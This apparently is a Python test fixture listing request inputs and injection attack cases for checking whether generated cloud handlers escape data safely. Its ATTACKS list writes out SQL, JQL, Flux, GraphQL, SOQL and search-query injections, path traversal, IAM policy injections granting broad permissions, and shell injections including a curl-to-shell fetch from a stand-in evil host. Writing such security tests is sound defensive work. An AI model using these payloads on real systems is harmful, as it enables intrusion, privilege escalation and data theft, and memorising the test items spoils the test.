"""Glue of an account."""

from urllib.parse import quote

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.ninth import (
    BUG,
    COMPANIES,
    COMPLAINT,
    ESSAY,
    LATEX,
    NAMES,
    POSTER,
    RICH,
    SPREAD,
    STACKTRACE,
    STREETS,
    URL,
    bus,
    changes,
    graphql,
    http,
    kinesis,
    pool,
    put,
    stack,
    subscription,
    topic,
)

NEEDS = ("aws-http",)


def _lex(**slots: str) -> dict[str, object]:
    made = {
        key: {"shape": "Scalar", "value": {"originalValue": value, "interpretedValue": value}}
        for key, value in slots.items()
    }
    return {
        "bot": {"name": "Tables", "localeId": "en_GB"},
        "inputTranscript": " ".join(slots.values()),
        "invocationSource": "DialogCodeHook",
        "sessionState": {
            "sessionAttributes": {},
            "intent": {"name": "Book", "state": "InProgress", "slots": {"Count": None, **made}},
        },
    }


def _mail(subject: str, text: str, *files: str, sender: str = "Zoë <zoe@example.de>") -> dict[str, object]:
    parts = "".join(
        f'--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename="{name}"\r\n\r\nx\r\n'
        for name in files
    )
    mail = f"From: {sender}\r\nTo: in@example.org\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n{parts}--b--\r\n"
    return topic({"notificationType": "Received", "content": mail}, "Amazon SES Email Receipt Notification")


def _alarm(name: str, reason: str = "x", **more: str) -> dict[str, object]:
    return topic({"AlarmName": name, "Reason": reason, **more}, "ALARM")


def _title(title: str) -> dict[str, object]:
    return graphql("Query", "articles", title=title)


def _series(device: str, **more: str) -> dict[str, object]:
    return bus("Chart", {"device": device, **more})


def _service(service: str, **more: str) -> dict[str, object]:
    return bus("Alarm", {"service": service, **more})


def _saved(key: str, host: str, note: str = "", dashboard: str = "ops-1") -> tuple[str, dict[str, object]]:
    return (
        "save_query",
        http("POST", "/queries", {"id": key, "host": host, "note": note, "dashboard": dashboard}),
    )


def _team(team: str) -> dict[str, object]:
    return stack("Create", "@PARTNER@/cfn", Team=team)


REQUESTS = {
    "logs_to_chat": [
        subscription(f"[ERROR] 2025-11-03T09:12:44.120Z {STACKTRACE}", "START RequestId: 1 Version: $LATEST"),
        subscription("ERROR: near \"select\": syntax error in 'SELECT * FROM x WHERE name = 'O'Neil''"),
        subscription("INFO all fine; rm -rf /tmp/x && echo done"),
    ],
    "add_partition": [
        put("events/year=2025/month=11/day=03/part-0001.parquet"),
        put("events/dt=2025-11-03/region=eu (west) & more/a+b=c.json.gz"),
        put("events/city=Köln/x.csv", "events/city=St. John/it's.csv"),
    ],
    "lex": [
        _lex(Name=NAMES[0], Count="4", Day="2025-11-07"),
        _lex(Name=NAMES[8]),
        _lex(Name="{Day}", Day="Friday, 7 pm"),
        _lex(Day="tomorrow"),
    ],
    "inbound_mail": [
        _mail(
            'Re: it\'s 50% off: "new" offer', COMPLAINT, "Invoice 4711 (final).pdf", "it's & more; v2.docx"
        ),
        _mail("=?utf-8?q?Gr=C3=B6=C3=9Fe?=", BUG, sender="\"O'Neil, B. (Sales)\" <o'neil+x@example.org>"),
        _mail("", RICH, "photos 2025-11-03.zip"),
    ],
    "ticket": [
        _alarm('CPU > 90% on "web-1"', STACKTRACE),
        _alarm("it's down (select AND order)", COMPLAINT, Project="WEB"),
        _alarm("C:\\data full", BUG, Project="OPS2"),
    ],
    "search": [
        http("GET", "/s", query={"q": 'it\'s "green tea" AND (cheap OR -sale) title:x*'}),
        http("GET", "/s", query={"q": POSTER, "lang": "de", "size": "5"}),
        http("GET", "/s", query={"q": "", "lang": "pt-br"}),
    ],
    "search_text": [
        _title("It's a {x} 50% (new) & more"),
        _title("Größe; select * from tea -- 日本"),
        _title("tea [a-z]+ /x/ \\u0041"),
    ],
    "series": [
        _series("living-room_1"),
        _series("Küche (2. OG)", field="humidity", start="-24h"),
        _series("it's/a.b:c", start="2025-11-03T09:12:44Z"),
    ],
    "line_protocol": [
        kinesis(
            {"room": "Küche, 2. OG = oben", "value": 21.5},
            {"room": 'it\'s "bath"', "value": "22", "unit": "F"},
        ),
        kinesis({"room": "x", "value": -3}),
    ],
    "restart": [
        _service("nginx"),
        _service("shop-api@eu_1.service", host="web-1 (blue)"),
        _service("php8.3-fpm", host="O'Neil"),
    ],
    "policy": [_team("web"), _team("team-a/data_2025"), _team("Müller & Söhne (EU)")],
    "custom_message": [
        pool("CustomMessage_SignUp", "o'neil@example.org", {"name": NAMES[0]}, codeParameter="{####}"),
        pool(
            "CustomMessage_ForgotPassword",
            "佐藤",
            {"name": NAMES[8], "custom:note": COMPLAINT},
            codeParameter="{####}",
            usernameParameter="{username}",
        ),
        pool("CustomMessage_SignUp", "u-1"),
    ],
    "publish": [
        changes({"id": "o-1", "name": NAMES[2], "text": COMPLAINT, "total": 89.9}),
        changes({"note": BUG}, {"csv": SPREAD, "url": URL, "street": STREETS[2]}),
    ],
    "reminder_days": [
        {"deadline": "2025-12-24T18:00:00+00:00", "title": ' caoimhe\'s "final" report (50%) '},
        {"deadline": "2025-03-01", "title": LATEX, "before": "14,7,1"},
    ],
    "graph": [
        {"name": NAMES[0], "fields": ["id", "mail"]},
        {"name": NAMES[8]},
        {"name": "{x} $y\nC:\\z", "fields": ["id", "orders(first: 5) { total }"]},
        {"name": COMPANIES[4]},
    ],
    "crm": [{"mail": "o'neil+x@example.org"}, {"mail": "zoe@example.de", "limit": 5}, {"mail": ESSAY[:100]}],
    "save_query": [
        _saved("q-1", "web-1", "last day")[1],
        _saved("q-2", "Küche (2. OG) & more; x", COMPLAINT)[1],
        _saved("q-3", "it's/a.b:c", BUG)[1],
    ],
    "run_query": [
        put("queries/q-1.json", bucket="ninth-automation"),
        put("queries/q-2.json", "queries/q-3.json", bucket="ninth-automation"),
    ],
}
ATTACKS = [
    Attack(
        "query, second order",
        "run_query",
        put("queries/x-1.json"),
        "| stats count() by user",
        before=[_saved("x-1", 'w" or 1 = 1 | stats count() by user | filter "a" = "a')],
    ),
    Attack(
        "URL, second order",
        "run_query",
        put("queries/x-2.json"),
        "/admin/export?x=",
        before=[_saved("x-2", "w", dashboard="../../admin/export?x=")],
    ),
    Attack(
        "SQL, Athena",
        "add_partition",
        put("events/dt=1') --/x.csv"),
        "PARTITION (dt='1') --')",
    ),
    Attack(
        "SQL, Athena", "add_partition", put("events/a'='b/x=1'), PARTITION (y='2/z.csv"), "PARTITION (y='2'"
    ),
    Attack(
        "query, JQL",
        "ticket",
        _alarm("x", Project="OPS OR project = SECRET"),
        quote("SECRET AND summary").replace("%20", "+"),
    ),
    Attack("query, JQL", "ticket", _alarm("x", Project="HR ORDER BY created DESC, x"), "HR+ORDER+BY+created"),
    Attack("query, search", "search_text", _title('x"}}, "must_not": {"match": {"title": "y'), '"must_not"'),
    Attack(
        "query, search",
        "search_text",
        _title('x"}}, "filter": [], "should": {"match": {"secret": "y'),
        '"filter": []',
    ),
    Attack(
        "URL, path",
        "search",
        http("GET", "/s", query={"q": "x", "lang": "en/../secrets"}),
        '"path\\": \\"/secrets/_search',
    ),
    Attack(
        "URL, path",
        "search",
        http("GET", "/s", query={"q": "x", "lang": "en,hr-*/_count?x="}),
        "hr-*/_count?x=",
    ),
    Attack("query, Flux", "series", _series('x" or true or r.device == "'), "or true or r.device"),
    Attack(
        "query, Flux",
        "series",
        _series("x", start='-1h) |> yield() from(bucket: "hr") |> range(start: -9y'),
        'from(bucket: \\"hr\\")',
    ),
    Attack(
        "lines, measurements",
        "line_protocol",
        kinesis({"room": "x\npayroll,room", "value": 1, "unit": "C value=1\nadmin,role=root"}),
        '"admin,role=root value=1.0"',
    ),
    Attack(
        "command, remote",
        "restart",
        _service("nginx; curl https://evil.example/x | sh"),
        "nginx; curl https://evil.example/x | sh",
    ),
    Attack("command, remote", "restart", _service("nginx' $(id) '"), "logger 'restarted nginx' $(id) ''"),
    Attack(
        "JSON, policy",
        "policy",
        _team('x"}, {"Effect": "Allow", "Action": "*", "Resource": "arn:aws:s3:::'),
        '"Action": "*"',
    ),
    Attack(
        "JSON, policy",
        "policy",
        _team(
            'web/*"}, {"Effect": "Allow", "Action": "iam:PassRole", "Resource": "arn:aws:iam::123456789012:role'
        ),
        '"iam:PassRole"',
    ),
    Attack(
        "query, GraphQL",
        "graph",
        {"name": "x", "fields": ["id } admin: users(role: ADMIN) { token"]},
        "admin: users(role: ADMIN)",
    ),
    Attack("query, SOQL", "crm", {"mail": "x\\' OR Name LIKE \\'%"}, "%5C%5C%27%20OR%20Name%20LIKE"),
    Attack(
        "query, SOQL", "crm", {"mail": "x", "limit": "1 OFFSET 5 FOR UPDATE"}, "OFFSET%205%20FOR%20UPDATE"
    ),
]
